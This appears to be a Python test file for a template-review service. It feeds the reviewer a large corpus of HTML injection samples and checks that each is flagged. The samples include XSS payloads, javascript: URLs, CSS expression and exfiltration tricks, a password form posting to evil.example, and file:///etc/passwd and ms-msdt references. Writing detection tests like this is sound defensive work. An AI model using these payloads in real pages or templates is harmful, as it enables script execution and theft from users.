"""Everything that would run, send, load or move by itself is remarked on; nothing is loaded."""

import pytest

from motion_desk.models.problems import Severity
from motion_desk.services.templates.finished.review import review

# The remark that must be there, and what somebody may put into a template.
CORPUS = [
    ("active.script", "<script>alert(1)</script>"),
    ("active.script", "<SCRIPT SRC=//evil.example/x.js>"),
    ("active.script", "<scr\0ipt>x</scr\0ipt><script\n>x</script >"),
    ("active.script", "<<script>alert(1)//<</script>"),
    ("active.script", '"><script>alert(document.domain)</script>'),
    ("active.script", "<!--[if mso]><script>x</script><![endif]-->"),
    ("active.script", "<!--[if gte IE 4]><SCRIPT>x</SCRIPT><![endif]-->"),
    ("active.script", "<script>unclosed"),
    ("active.handler", '<img src=x onerror="alert(1)">'),
    ("active.handler", "<img/src='x'/onerror=alert(1)>"),
    ("active.handler", "<body onload=alert(1)>"),
    ("active.handler", "<details open ontoggle=alert(1)>x"),
    ("active.handler", "<p OnMouseOver\n=\nalert(1)>x</p>"),
    ("active.handler", '<input autofocus onfocus="alert(1)">'),
    ("active.handler", "<svg/onload=alert(1)>"),
    ("active.handler", '<a href="#" onclick="x">y'),
    ("active.handler", '<x onpointerrawupdate="x">y</x>'),
    ("active.handler", "<p style='x' onanimationstart=alert(1) "),
    ("active.script-address", '<a href="javascript:alert(1)">x</a>'),
    ("active.script-address", '<a href="  jAvAsCrIpT:alert(1)">x</a>'),
    ("active.script-address", '<a href="java\tscr\nipt:alert(1)">x</a>'),
    ("active.script-address", '<a href="&#106;avascript&colon;alert(1)">x</a>'),
    ("active.script-address", '<a href="&#x0A;javascript:alert(1)">x</a>'),
    ("active.script-address", '<a href="\x01javascript:alert(1)">x</a>'),
    ("active.script-address", '<a href="vbscript:msgbox(1)">x</a>'),
    ("active.script-address", "<img src=javascript:alert(1)>"),
    ("active.script-address", '<form action="javascript:alert(1)"><input></form>'),
    ("active.script-address", "<p style=\"background:url('javascript:alert(1)')\">x</p>"),
    ("active.script-address", '<svg><a xlink:href="javascript:alert(1)">x</a></svg>'),
    ("active.script-address", '<svg><animate to="javascript:alert(1)"/></svg>'),
    ("active.data-page", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("active.data-page", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'),
    ("active.data-page", '<iframe src="data:application/xhtml+xml,x"></iframe>'),
    ("active.svg-script", '<img src="data:image/svg+xml,%3Csvg%20onload=alert(1)%3E">'),
    ("active.svg-script", '<img src="data:image/svg+xml,<svg><script>x</script></svg>">'),
    ("active.svg-script", '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=">'),
    ("active.frame", '<iframe src="https://evil.example"></iframe>'),
    ("active.frame", "<frameset><frame src=x></frameset>"),
    ("active.frame", '<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe>'),
    ("active.plugin", '<object data="x.swf"></object>'),
    ("active.plugin", '<embed src="x.pdf">'),
    ("active.plugin", "<applet code=x></applet>"),
    ("active.form", '<form action="https://evil.example"><input name="password"></form>'),
    ("active.form", '<button formaction="https://evil.example">x</button>'),
    ("active.form", "<textarea>x</textarea>"),
    ("active.media", "<video autoplay src=https://evil.example/x.mp4></video>"),
    ("active.media", "<audio src=x></audio>"),
    ("active.base", '<base href="https://evil.example/">'),
    ("active.link", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("active.link", "<link rel=prefetch href=//evil.example>"),
    ("active.link", "<link rel=dns-prefetch href=//secret.evil.example>"),
    ("active.foreign", "<svg><foreignObject><p>x</p></foreignObject></svg>"),
    ("active.foreign", "<math><mtext><style><img src=x></style></mtext></math>"),
    ("active.animation", '<svg><set attributeName="href" to="x"/></svg>'),
    ("active.motion", "<marquee>x</marquee>"),
    ("active.template", "<template><p>x</p></template>"),
    ("active.plaintext", "<plaintext>x"),
    ("active.plaintext", "<noembed><img src=x></noembed>"),
    ("active.refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("active.refresh", "<META HTTP-EQUIV=Refresh CONTENT='0; URL=data:text/html,x'>"),
    ("active.meta", '<meta http-equiv="Set-Cookie" content="a=b">'),
    ("active.ping", '<a href="https://a.example" ping="https://evil.example">x</a>'),
    ("active.attribute", "<p contenteditable>x</p>"),
    ("active.css", '<p style="width:expression(alert(1))">x</p>'),
    ("active.css", '<p style="width:exp/**/ression(1);behavior:url(x.htc)">x</p>'),
    ("active.css", '<p style="-moz-binding:url(x.xml#a)">x</p>'),
    ("active.css", '<p style="w\\69 dth:e\\78pression(alert(1))">x</p>'),
    ("active.css", "<!--[if mso]><style>@import 'x'</style><![endif]-->"),
    ("active.import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("active.import", "<style>@im\\port url(//evil.example/x.css);</style>"),
    ("active.import", "<style>@IMPORT/**/url(file:///etc/passwd);</style>"),
    ("active.css-remote", '<p style="background:url(https://evil.example/a.png)">x</p>'),
    ("active.css-remote", '<p style="background:\\75rl(//evil.example/a.png)">x</p>'),
    ("active.css-remote", "<style>@font-face{src:url('https://evil.example/f')}</style>"),
    ("active.css-remote", "<style>p[a^=x]{list-style:url(//evil.example/?x)}</style>"),
    ("active.css-remote", "<p style='background:image-set(\"//evil.example/a.png\" 1x)'>x</p>"),
    ("active.local-address", '<p style="background:url(file:///etc/passwd)">x</p>'),
    ("active.local-address", '<img src="file://server/share/a.png">'),
    ("active.local-address", '<img src="\\\\evil.example\\share\\a.png">'),
    ("active.local-address", '<a href="ms-msdt:/id PCWDiagnostic">x</a>'),
    ("active.local-address", '<a href="search-ms:query=x">x</a>'),
]


@pytest.mark.parametrize(("code", "sample"), CORPUS, ids=[ascii(each[1])[:70] for each in CORPUS])
def test_an_injection_is_remarked_on(code: str, sample: str) -> None:
    for html in (sample, f"<table><tr><td>Dear {{{{ name }}}},\n{sample}</td></tr></table>"):
        found = [each for each in review(html).remarks if each.code == code]
        assert found, sorted(review(html).codes)
        assert all(each.severity >= Severity.WARNING for each in found)


def test_the_corpus_is_large_and_each_sample_another() -> None:
    assert len({sample for _, sample in CORPUS}) == len(CORPUS) >= 40


def test_a_remark_stands_where_the_injection_does() -> None:
    [found] = [
        each
        for each in review('<p>a</p>\n<p>b <img src=x onerror="y"></p>').remarks
        if each.code == "active.handler"
    ]
    assert (found.line, found.column) == (2, 17)


@pytest.mark.parametrize(
    "html",
    [
        '<p class="onload">one</p>',
        "<p>javascript: is a language, and &lt;script&gt; a tag</p>",
        '<a href="https://a.example/?next=javascript:x">x</a>',
        '<p data-onclick="x" style="font-family:expression">x</p>',
        "<!-- <script>x</script> -->",
        '<link rel="canonical" href="https://a.example">',
    ],
)
def test_what_only_looks_like_it_is_left_alone(html: str) -> None:
    assert not [code for code in review(html).codes if code.startswith("active.")]
